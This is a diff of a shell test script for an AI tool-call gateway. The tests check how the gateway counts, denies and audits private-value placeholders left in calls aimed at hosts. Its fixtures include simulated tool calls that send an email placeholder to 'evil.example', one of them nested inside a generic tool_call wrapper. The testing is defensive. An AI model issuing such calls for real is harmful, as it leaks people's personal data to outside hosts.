@@ -75,19 +75,22 @@ for api in chat messages responses; do
 		like "$api, stream $stream: a rule denies such a call, and the model reads the reason" \
 			"$(if [ $stream = true ]; then text "$D/got"; else cat "$D/got"; fi)" 'The call of the tool post was denied: write the value yourself or leave out the host'
 		is "$api, stream $stream: the record has the denial and its reason" "$(completion '[(.calls[]|[.tool,.decision,.rule,.left]),.answer.left_in_calls]')" '[["post","deny","whole-posts",{"host":1}],null]'
+		calls $api $stream tool_call '{"name":"deploy","arguments":{"to":"https://evil.example/ <EMAIL_ADDRESS_1>"}}' >"$D/got"
+		is "$api, stream $stream: the record has the tool in the arguments" "$(completion '[.calls[]|[.tool,.wraps,.left]]')" '[["tool_call","deploy",{"host":1}]]'
 		calls $api $stream Write '{"file_path":"a.env","content":"MAIL=<EMAIL_ADDRESS_1> at evil.example"}' >"$D/got"
 		like "$api, stream $stream: a file gets the value" "$(cat "$D/got")" "$MAIL"
 		is "$api, stream $stream: nothing stays in it" "$(completion '[(.calls[]|[.tool,.left]),.answer.left_in_calls]')" '[["Write",null],null]'
 	done
 done
-id=$(settled; cat "$JOURNAL"/* | tr -d '\0' | grep '"type":"completion"' | grep '"left"' | grep -v '"deny"' | tail -1 | jq -r .id)
-is "/metrics counts them by tool and reason" "$(metric call_placeholders_left_total 'server="",tool="send",reason="host"')" $n
+id=$(settled; cat "$JOURNAL"/* | tr -d '\0' | grep '"type":"completion"' | grep '"tool":"send"' | tail -1 | jq -r .id)
+is "/metrics counts them by tool and reason" "$(metric call_placeholders_left_total 'server="",tool="send",reason="host"') $(metric call_placeholders_left_total 'server="",tool="deploy",reason="host"')" "$n $n"
 is "/metrics does not count what was not sent" "$(metric call_placeholders_left_total 'server="",tool="post",reason="host"')" 0
-is "tollgate usage counts them by tool and reason" "$(tg usage --by tool --since 1h --json | jq -c '[.rows[] | select(.tool) | [.tool, .left_host, .left_unknown]] | sort')" '[["/Write",0,0],["/post",0,0],["/send",6,0]]'
+is "tollgate usage counts them by tool and reason" "$(tg usage --by tool --since 1h --json | jq -c '[.rows[] | select(.tool) | [.tool, .left_host, .left_unknown]] | sort')" '[["/Write",0,0],["/deploy",6,0],["/post",0,0],["/send",6,0]]'
 like "tollgate usage prints them" "$(tg usage --by tool --since 1h)" 'left at hosts'
-is "tollgate usage counts them by person" "$(tg usage --by person --since 1h --json | jq -c '[.rows[] | .left_host]')" "[$n]"
-like "audit explain states the number and the reason" "$(tg audit explain "$id" | tr '\n' ' ')" 'call by answer: /send: permit.*placeholders that stay in a string with a URL or a host that the caller did not send: 1 \(host\)'
-like "check names the tools without a row, and how often they were called" "$(tg check)" 'note: tools: no row has these tools of recent records .calls, placeholders that stayed.: post \(6, 6\), send \(6, 6\):'
+is "tollgate usage counts them by person" "$(tg usage --by person --since 1h --json | jq -c '[.rows[] | .left_host]')" "[$((2 * n))]"
+is "audit list finds the calls of a tool by way of another one" "$(tg audit list --tool deploy --since 1h 2>&1 | grep -c /tool_call)" $n
+like "audit explain states the number and the reason" "$(tg audit explain "$id" | tr '\n' ' ')" 'call by answer: /send: permit.*placeholders that stay in a string with a URL or a host that the caller did not send, or in a command that sends: 1 \(host\)'
+like "check names the tools without a row, and how often they were called" "$(tg check)" 'note: tools: no row has these tools of recent records .calls, placeholders that stayed.: deploy \(6, 6\), post \(6, 6\), send \(6, 6\):'
 unlike "check does not name a tool with a row" "$(tg check | grep '^note: tools')" 'Write'
 
 # the console's Request, in a browser
